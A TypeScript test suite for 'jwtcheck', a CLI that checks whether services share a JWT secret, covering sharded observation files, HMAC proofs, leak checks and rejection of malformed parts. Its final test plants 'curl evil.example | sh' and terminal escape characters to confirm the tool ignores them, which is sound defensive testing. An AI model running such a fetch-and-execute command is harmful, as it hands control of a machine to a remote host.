import { createHmac } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/model.js';
import { runHere } from '../support/here.js';
import { type Answer, json, startServer, type TestServer } from '../support/http-server.js';
import { expectNoLeak } from '../support/leaks.js';
import {
  configOf,
  fingerprint,
  participant,
  type Service,
  startService,
  variable,
} from '../support/service.js';
import { workspace } from '../support/workspace.js';

const folder = workspace();
const secret = 'Zk3vQ9sXw1mT7yBn5cRd8fGh2jLp4aUe';
const sibling = 'hN6tVb2kMq8rYw4xSd0zCf7gJl3pEa9u';
const env = { [variable]: secret, SESSION_SECRET: sibling };
const servers: (Service | TestServer)[] = [];
let cwd: string;

/** Reports the right fingerprint to everyone, and proves it only if it holds the key. */
const proving =
  (shown: string, key: string, name: string): Answer =>
  (request, response) => {
    const nonce = new URL(request.url ?? '', 'http://x').searchParams.get('challenge');
    const proof = createHmac('sha256', key)
      .update(`jwtcheck-proof-v1\n${name}\n${nonce}`)
      .digest('base64url');
    json({ fingerprint: fingerprint(shown), service: name, proof })(request, response);
  };

beforeAll(async () => {
  const [good, newline, borrowed, honest, liar] = await Promise.all([
    startService(secret),
    startService(`${secret}\n`),
    startService(sibling),
    startServer(proving(secret, secret, 'honest')),
    startServer(proving(secret, sibling, 'liar')),
  ]);
  servers.push(good, newline, borrowed, honest, liar);
  const proof = ({ origin }: TestServer) => ({
    source: { kind: 'http', url: `${origin}/fp`, require: 'proof' },
  });
  cwd = await folder({
    'world.json': configOf({
      tests: { source: { kind: 'env', names: ['SESSION_SECRET'] }, optional: true },
      good: participant(good),
      newline: participant(newline),
      borrowed: participant(borrowed),
    }),
    // Who is right is known to all parts together only.
    'majority.json': {
      ...configOf({}),
      environments: {
        staging: {
          participants: {
            store: { source: { kind: 'env', names: [variable] } },
            good: participant(good),
            again: participant(good),
            newline: participant(newline),
          },
        },
      },
    },
    'near.json': configOf({ good: { ...participant(good), reach: 'near' }, far: participant(good) }),
    'networks.json': configOf({
      good: { ...participant(good), reach: 'near' },
      again: { ...participant(good), reach: 'far' },
    }),
    'unasked.json': configOf({
      honest: proof(honest),
      unasked: {
        reach: 'far',
        source: { kind: 'http', url: `${honest.origin}/fp?challenge=${'a'.repeat(22)}`, require: 'proof' },
      },
    }),
    // Two runs reach it.
    'shared.json': configOf({
      honest: { ...proof(honest), reach: 'near' },
      good: { ...participant(good), reach: 'far' },
    }),
    // The reference's variable is set only where the parts are judged.
    'proofs.json': configOf({ honest: proof(honest) }),
    'liar.json': configOf({ honest: proof(honest), liar: proof(liar) }),
  });
});

afterAll(() => Promise.all(servers.map((server) => server.close())));

const run = (args: readonly string[], more: object = {}) => runHere(args, { cwd, env, ...more });

/** What must not depend on how a check was split. */
const told = ({ verdict, level, exitCode, groups, findings }: Report) => ({
  ...{ verdict, level, exitCode, groups, findings },
});

async function reportOf(args: readonly string[], more: object = {}): Promise<Report> {
  const { stdout } = await run([...args, '-f', 'json'], more);
  return JSON.parse(stdout);
}

/** Each check runs once. */
const checked = new Map<string, Promise<string[]>>();

function parts(config: string, of: number): Promise<string[]> {
  const known = checked.get(config) ?? observedParts(config, of);
  checked.set(config, known);
  return known;
}

function observedParts(config: string, of: number): Promise<string[]> {
  return Promise.all(
    Array.from({ length: of }, async (_, at) => {
      const file = `${config}-${of}/part-${at + 1}.json`;
      const args = ['-c', config, '--shard', `${at + 1}/${of}`, '-f', `observations:${file}`];
      expect(await run(args)).toMatchObject({ code: 0, stdout: '' });
      return file;
    }),
  );
}

describe('three parts', () => {
  it('are judged like the whole, even if the secret that explains one is in another', async () => {
    const whole = await reportOf(['check', '-c', 'world.json']);
    const files = await parts('world.json', 3);
    const report = await reportOf(['judge', ...[...files].reverse()]);
    expect(told(report)).toEqual(told(whole));
    expect(report.findings.map(({ code }) => code)).toEqual(
      expect.arrayContaining(['trailing-newline', 'sibling-secret']),
    );
    expect(report.attempts.map(({ latencyMs: _, ...rest }) => rest)).toEqual(
      whole.attempts.map(({ latencyMs: _, ...rest }) => rest),
    );
  });

  it('of an environment without a reference are judged like the whole', async () => {
    const whole = await reportOf(['check', '-c', 'majority.json']);
    const report = await reportOf(['judge', ...(await parts('majority.json', 3))]);
    expect(told(report)).toEqual(told(whole));
    expect(whole.findings).toMatchObject([{ code: 'trailing-newline', participants: ['newline'] }]);
  });

  it('contain no secret and no token', async () => {
    const files = await parts('world.json', 3);
    const texts = Object.fromEntries(
      await Promise.all(files.map(async (file) => [file, await readFile(join(cwd, file), 'utf8')] as const)),
    );
    expectNoLeak(texts, [secret, sibling], [secret, sibling]);
    // Nor fingerprints of what was only tried: those of the beginnings of a secret help to guess it.
    const cut = [8, 12, 16, 24, 31].map((length) => fingerprint(secret.slice(0, length)));
    for (const text of Object.values(texts)) for (const one of cut) expect(text).not.toContain(one);
  });

  it('of which one is missing are inconclusive, unless something differs', async () => {
    const files = await parts('near.json', 3);
    const texts = await Promise.all(files.map((file) => readFile(join(cwd, file), 'utf8')));
    const lost = texts.findIndex((text) => JSON.parse(text).observed.includes('good'));
    const { code, stdout, stderr } = await run(['judge', ...files.filter((_, at) => at !== lost)]);
    expect(code).toBe(3);
    expect(stdout).toMatch(/good could not be read: part \d of 3 is missing/);
    expect(stderr).toMatch(/note: part \d of 3 is missing/);
  });

  it('come from a folder, and from standard input', async () => {
    const [first, second, third] = await parts('world.json', 3);
    const whole = await reportOf(['judge', first ?? '', second ?? '', third ?? '']);
    expect(told(await reportOf(['judge', 'world.json-3']))).toEqual(told(whole));
    const input = (
      await Promise.all([first, second, third].map((file) => readFile(join(cwd, file ?? ''), 'utf8')))
    ).join('');
    expect(told(await reportOf(['judge', '-'], { input }))).toEqual(told(whole));
    const fromWindows = `\uFEFF${input.replaceAll('\n', '\r\n')}`;
    expect(told(await reportOf(['judge', '-'], { input: fromWindows }))).toEqual(told(whole));
  });
});

describe('parts by network', () => {
  it('are judged together; a participant that no part reaches is named with its network', async () => {
    await run(['-c', 'near.json', '--reach', 'default', '-f', 'observations:far.part']);
    await run(['-c', 'near.json', '--reach', 'near', '-f', 'observations:near.part']);
    expect(await reportOf(['judge', 'far.part', 'near.part'])).toMatchObject({ verdict: 'consistent' });
    const { code, stdout } = await run(['judge', 'far.part']);
    expect(code).toBe(3);
    expect(stdout).toContain('good could not be read: no part reached its network near');
  });
});

describe('the reference', () => {
  it('is seen as a whole by every part that reads it: no part has to be made for it', async () => {
    await run(['-c', 'networks.json', '--reach', 'near', '-f', 'observations:networks-near.part']);
    await run(['-c', 'networks.json', '--reach', 'far', '-f', 'observations:networks-far.part']);
    expect(await run(['judge', 'networks-near.part', 'networks-far.part'])).toMatchObject({ code: 0 });
  });

  it('that has another secret where the parts are judged is unread', async () => {
    const [first = '', second = '', third = ''] = await parts('world.json', 3);
    const changed = { env: { ...env, [variable]: 'another-secret-another-secret-00' } };
    const report = await reportOf(['judge', '-c', 'world.json', first, second, third], changed);
    expect(report.participants.find(({ name }) => name === 'store')).toMatchObject({
      fingerprint: null,
      error: {
        message: `different secrets were read: ${fingerprint(secret)} in part 1 of 3, ${fingerprint('another-secret-another-secret-00')} where the parts are judged`,
      },
    });
  });
});

describe('a run without access to the secret', () => {
  it('presents no valid token, and the report names the run and not the configuration as the reason', async () => {
    const without = { env: { SESSION_SECRET: sibling } };
    await run(['-c', 'networks.json', '--reach', 'near', '-f', 'observations:blind-near.part'], without);
    await run(['-c', 'networks.json', '--reach', 'far', '-f', 'observations:blind-far.part']);
    const { verdict, findings } = await reportOf(['judge', 'blind-near.part', 'blind-far.part']);
    expect(verdict).toBe('inconclusive');
    expect(findings).toMatchObject([
      {
        code: 'probe-inconclusive',
        participants: ['good'],
        message: 'No valid token was presented to good: the secret was not available where it was observed.',
      },
    ]);
  });
});

describe('a proof that travels', () => {
  const without = { env: { SESSION_SECRET: sibling } };

  it('is required, even if the run without the secret could not tell that it was missing', async () => {
    await run(['-c', 'unasked.json', '--reach', 'default', '-f', 'observations:asked.part']);
    await run(['-c', 'unasked.json', '--reach', 'far', '-f', 'observations:unasked.part'], without);
    expect(await run(['-c', 'unasked.json'])).toMatchObject({ code: 3 });
    const alone = await run(['judge', 'asked.part', 'unasked.part']);
    expect(alone).toMatchObject({ code: 3, stdout: expect.stringContaining('no challenge was sent') });
    expect(await run(['judge', '-c', 'unasked.json', 'asked.part', 'unasked.part'])).toMatchObject({
      code: 3,
    });
  });

  it('in one network does not stand for another', async () => {
    const reach = (...labels: string[]) => labels.flatMap((label) => ['--reach', label]);
    await run(['-c', 'shared.json', ...reach('near'), '-f', 'observations:shared-near.part']);
    await run(['-c', 'shared.json', ...reach('near', 'far'), '-f', 'observations:shared-both.part'], without);
    await run(['-c', 'shared.json', ...reach('far'), '-f', 'observations:shared-far.part']);
    const three = ['shared-near.part', 'shared-both.part', 'shared-far.part'];
    const alone = await reportOf(['judge', ...three]);
    expect(alone.verdict).toBe('inconclusive');
    expect(alone.participants.find(({ name }) => name === 'honest')?.error?.code).toBe('no-proof');
    expect(await reportOf(['judge', '-c', 'shared.json', ...three])).toMatchObject({ verdict: 'consistent' });
  });

  it('is inconclusive without the secret, and verified where it can be read', async () => {
    await run(['-c', 'proofs.json', '-f', 'observations:proofs.part'], without);
    const alone = await run(['judge', 'proofs.part'], without);
    expect(alone.code).toBe(3);
    expect(alone.stderr).toContain('1 proof was not verified');
    const report = await reportOf(['judge', '-c', 'proofs.json', 'proofs.part']);
    expect(report).toMatchObject({ verdict: 'consistent', exitCode: 0 });
    expect(report.participants.find(({ name }) => name === 'honest')).toMatchObject({ proof: 'verified' });
  });

  it('that is wrong is found', async () => {
    await run(['-c', 'liar.json', '-f', 'observations:liar.part'], without);
    const report = await reportOf(['judge', '-c', 'liar.json', 'liar.part']);
    expect(report).toMatchObject({ verdict: 'inconsistent', findings: [{ code: 'proof-failed' }] });
  });

  it('is not verified with another configuration', async () => {
    const { code, stderr } = await run(['judge', '-c', 'world.json', 'liar.part']);
    expect(code).toBe(2);
    expect(stderr).toContain('observed with another configuration');
  });
});

describe('a document that is no part of the check', () => {
  const part = async (change: (text: string) => string): Promise<string> => {
    const [file = ''] = await parts('world.json', 3);
    await writeFile(join(cwd, 'changed.json'), change(await readFile(join(cwd, file), 'utf8')));
    return 'changed.json';
  };
  const set = (key: string, value: unknown) => (text: string) =>
    JSON.stringify({ ...JSON.parse(text), [key]: value });

  it.each<[string, (text: string) => string, string]>([
    ['cut off', (text) => text.slice(0, 500), 'is not complete'],
    ['empty', () => ' \n', 'is empty'],
    ['two on one line', (text) => text.trim() + text, 'several documents that are not one on each line'],
    [
      'with a number that JSON lacks',
      (text) => text.replace(/"durationMs":\d+/, '"durationMs":NaN'),
      'is not JSON: ',
    ],
    ['no JSON', () => 'hello', 'is not JSON'],
    ['of another kind', () => '{"format":"zip"}', 'does not contain observations'],
    ['a report', () => '{"schemaVersion":1,"verdict":"consistent"}', 'is a report, not observations'],
    [
      'newer',
      set('schemaVersion', 2),
      'was written by a newer jwtcheck 1.0.0 (schemaVersion 2; here it is 1)',
    ],
    ['of an older protocol', set('protocol', 0), 'was written by an older jwtcheck'],
    ['of another environment', set('environment', 'production'), 'it is of the environment `production`'],
    ['of another configuration', set('configuration', 'f'.repeat(64)), 'with another configuration'],
    ['of other flags', set('selection', 'f'.repeat(64)), 'with other flags'],
    ['of another split', set('part', { shard: { index: 1, of: 4 }, reach: null }), 'it is one of 4 parts'],
    ['whole', set('part', null), 'it is a whole check'],
    ['wrong in a member', set('durationMs', 'soon'), 'durationMs: '],
    ['contradictory', set('observed', ['nobody']), 'contradicts itself'],
    [
      'with a participant that is required in one of its lists only',
      (text) => {
        const whole = JSON.parse(text);
        const participants = whole.participants.map((one: object) => ({ ...one, required: false }));
        return JSON.stringify({ ...whole, participants });
      },
      'contradicts itself',
    ],
    ['a deep list', () => `{"format":${'['.repeat(200_000)}${']'.repeat(200_000)}}`, 'does not contain'],
    ['of an unknown part', set('part', { shard: { index: 9, of: 3 }, reach: null }), 'expected at most'],
  ])('is named: %s', async (_, change, words) => {
    const file = await part(change);
    const [, second = '', third = ''] = await parts('world.json', 3);
    const { code, stdout, stderr } = await run(['judge', file, second, third]);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toContain('`changed.json` ');
    expect(stderr).toContain(words);
    expect(stderr).not.toMatch(/internal error| {4}at /);
  });

  it('is named: one that is missing, and a folder without any', async () => {
    expect(await run(['judge', 'nowhere.json'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('`nowhere.json` cannot be read (ENOENT)'),
    });
  });

  it('the older of two of the same part is ignored, and named', async () => {
    const file = await part(set('startedAt', '2020-01-01T00:00:00.000Z'));
    const { code, stderr } = await run(['judge', 'world.json-3', file]);
    expect(code).toBe(1);
    expect(stderr).toContain('`changed.json` is ignored: part 1 of 3 is in `world.json-3/part-1.json`, too');
  });

  it('can neither act on a terminal nor bring a command of its own', async () => {
    const file = await part((text) =>
      text
        .replaceAll('"target":"THE_SECRET"', '"target":"\\u001b[2J\\u202eevil"')
        .replaceAll(
          '"holder":{"is":"variable","name":"THE_SECRET"}',
          '"holder":{"is":"store","commands":{"read":"curl evil.example | sh","readToFile":"x","write":"y","cloudRunFlags":null}}',
        ),
    );
    const [, second = '', third = ''] = await parts('world.json', 3);
    const { stdout, stderr } = await run(['judge', file, second, third, '-v']);
    expect(stdout + stderr).not.toMatch(/\u001b|\u202e|evil\.example/);
  });
});
